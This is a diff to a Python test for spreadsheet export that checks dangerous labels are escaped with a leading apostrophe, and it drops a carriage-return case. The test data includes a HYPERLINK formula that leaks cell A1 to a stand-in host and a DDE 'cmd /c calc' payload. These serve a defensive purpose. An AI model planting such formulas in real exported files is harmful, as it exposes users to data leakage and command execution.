@@ -31,7 +31,7 @@ NUMBER = re.compile(r"-?(?:[0-9]+(?:\.[0-9]*)?|\.[0-9]+)(?:[eE][-+]?[0-9]+)?")
 
 HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&A1,"click")'
 #: Option labels, each starting with a dangerous character; "-2" is a number as written.
-LABELS = [HYPERLINK, "@SUM(A1:A9)", "-2+3", "+1", "\t=1", "\r=1", "-2", "plain"]
+LABELS = [HYPERLINK, "@SUM(A1:A9)", "-2+3", "+1", "\t=1", "-2", "plain"]
 #: A text question's own candidates (normalized text: no tab or CR survives normalization).
 CANDIDATES = ["=1+1", "@sum(a1)", "-2+3", "+1", "-2", "lagos"]
 #: Candidates asked for at export time (comma-separated, so none holds a comma).
@@ -118,7 +118,7 @@ def check_export(text: str, doc: dict[str, Any]) -> None:
     labels = [row[1] for row in body]
     for label in LABELS + CANDIDATES + ["=cmd|' /c calc'!a0", "@x", "+x", "-x"]:
         assert expected_label(label) in labels, label
-    for dangerous in ("'" + HYPERLINK, "'@SUM(A1:A9)", "'-2+3", "'+1", "'\t=1", "'\r=1"):
+    for dangerous in ("'" + HYPERLINK, "'@SUM(A1:A9)", "'-2+3", "'+1", "'\t=1"):
         assert dangerous in labels
     assert "-2" in labels  # a number as written stays as it is
     assert "'-x" in labels and "'=1+1" in labels
